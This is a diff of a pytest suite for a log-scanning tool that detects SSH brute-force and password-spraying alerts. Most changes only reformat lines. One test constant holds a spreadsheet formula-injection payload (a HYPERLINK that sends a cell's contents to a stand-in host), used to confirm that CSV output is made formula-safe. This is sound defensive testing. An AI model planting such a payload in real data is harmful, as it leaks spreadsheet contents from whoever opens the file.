@@ -40,11 +40,20 @@ def test_alerts_lists_and_filters_a_case_database(openssh_case):
     spraying = jsonl(tocsin("alerts", "--db", str(db), "--rule", "password SPRAYING").stdout)
     assert len(spraying) == 4
     by_ip = jsonl(tocsin("alerts", "--db", str(db), "--entity", f"source.ip={BRUTE_FORCE_IP}").stdout)
-    assert {a["rule"]["title"] for a in by_ip} == {"Brute Force From One Source", "Password Spraying From One Source"}
+    assert {a["rule"]["title"] for a in by_ip} == {
+        "Brute Force From One Source",
+        "Password Spraying From One Source",
+    }
     by_user = jsonl(tocsin("alerts", "--db", str(db), "--entity", "root").stdout)
     assert len(by_user) == 3 and all(a["group_by"] == {"user.name": "root"} for a in by_user)
-    late = jsonl(tocsin("alerts", "--db", str(db), "--since", "2025-12-10T10:50", "--until", "2025-12-10 11:00Z").stdout)
-    assert late and all(a["window"]["end"] >= "2025-12-10T10:50" and a["window"]["start"] <= "2025-12-10T11:00" for a in late)
+    late = jsonl(
+        tocsin(
+            "alerts", "--db", str(db), "--since", "2025-12-10T10:50", "--until", "2025-12-10 11:00Z"
+        ).stdout
+    )
+    assert late and all(
+        a["window"]["end"] >= "2025-12-10T10:50" and a["window"]["start"] <= "2025-12-10T11:00" for a in late
+    )
     assert len(late) < len(listed)
     bad = tocsin("alerts", "--db", str(db), "--since", "yesterday")
     assert bad.returncode == 2 and "ISO 8601" in bad.stderr
@@ -60,12 +69,16 @@ def test_alerts_table_has_short_ids_that_show_resolves(openssh_case):
     short_id = rows[0][1].strip()
     assert re.fullmatch(r"[0-9a-f]{10}", short_id)
     shown = json.loads(tocsin("show", short_id, "--db", str(db)).stdout)
-    assert shown["alert"]["id"].startswith(short_id) and len(shown["evidence"]) == shown["alert"]["event_count"]
+    assert (
+        shown["alert"]["id"].startswith(short_id) and len(shown["evidence"]) == shown["alert"]["event_count"]
+    )
 
 
 def test_scan_table_shows_the_alert_id():
     result = tocsin("scan", str(EXAMPLE), "--format", "table")
-    rows = [line.split("│") for line in result.stdout.splitlines() if line.startswith("│ ") and line[2:4].strip()]
+    rows = [
+        line.split("│") for line in result.stdout.splitlines() if line.startswith("│ ") and line[2:4].strip()
+    ]
     ids = {a["id"][:10] for a in jsonl(tocsin("scan", str(EXAMPLE), "--format", "jsonl").stdout)}
     assert {row[1].strip() for row in rows} == ids
 
@@ -96,7 +109,7 @@ def test_show_refuses_an_ambiguous_prefix(openssh_case):
     assert result.returncode == 2 and "ambiguous" in result.stderr and "Traceback" not in result.stderr
 
 
-FORMULA_USER = "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"
+FORMULA_USER = '=HYPERLINK("http://x.example/?"&A1,"x")'
 
 
 def _formula_log(path: Path) -> Path:
@@ -118,7 +131,9 @@ def test_csv_output_is_formula_safe(tmp_path):
     per_account = next(row for row in rows if row["rule"] == "Brute Force Against One Account")
     assert per_account["user"] == "'" + FORMULA_USER and per_account["event_count"] == "10"
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
-    events = list(csv.DictReader(io.StringIO(tocsin("events", str(log), "--format", "csv", "--limit", "4").stdout)))
+    events = list(
+        csv.DictReader(io.StringIO(tocsin("events", str(log), "--format", "csv", "--limit", "4").stdout))
+    )
     assert len(events) == 4 and events[0]["user.name"] == "'" + FORMULA_USER
     assert events[0]["original"].startswith("Mar  3 06:10:00 web01 sshd[100]: Failed password")
 
@@ -151,15 +166,24 @@ def test_timeline_for_timesketch(tmp_path):
 def test_output_fits_its_destination(tmp_path):
     rules = tmp_path / "rules-with-a-long-folder-name-so-that-the-summary-line-is-longer-than-eighty-columns"
     rules.mkdir()
-    (rules / "broken.yml").write_text("title: broken\nlogsource: {product: linux}\ndetection:\n  condition: nothing\n")
+    (rules / "broken.yml").write_text(
+        "title: broken\nlogsource: {product: linux}\ndetection:\n  condition: nothing\n"
+    )
     table_file = tmp_path / "alerts.txt"
     result = tocsin("scan", str(EXAMPLE), "--rules", str(rules), "--format", "table", "-o", str(table_file),
                     env={"COLUMNS": "80"})  # fmt: skip
     rejected = [line for line in result.stderr.splitlines() if "rejected" in line and "broken.yml" in line]
-    assert len(rejected) == 1 and len(rejected[0]) > 120 and str(rules) in rejected[0]  # one line, not wrapped
-    rows = [line for line in table_file.read_text().splitlines() if line.startswith("│ ") and line[2:4].strip()]
+    assert (
+        len(rejected) == 1 and len(rejected[0]) > 120 and str(rules) in rejected[0]
+    )  # one line, not wrapped
+    rows = [
+        line for line in table_file.read_text().splitlines() if line.startswith("│ ") and line[2:4].strip()
+    ]
     assert len(rows) == 5  # one line per alert at full width, nothing folded or cut
-    assert any("Successful Authentication After Repeated Failures" in row and "host.name=web01" in row for row in rows)
+    assert any(
+        "Successful Authentication After Repeated Failures" in row and "host.name=web01" in row
+        for row in rows
+    )
     assert "…" not in table_file.read_text()
     narrow = tocsin("scan", str(EXAMPLE), "--format", "table", "--width", "100").stdout
     assert max(map(len, narrow.splitlines())) <= 100 and "critical" in narrow
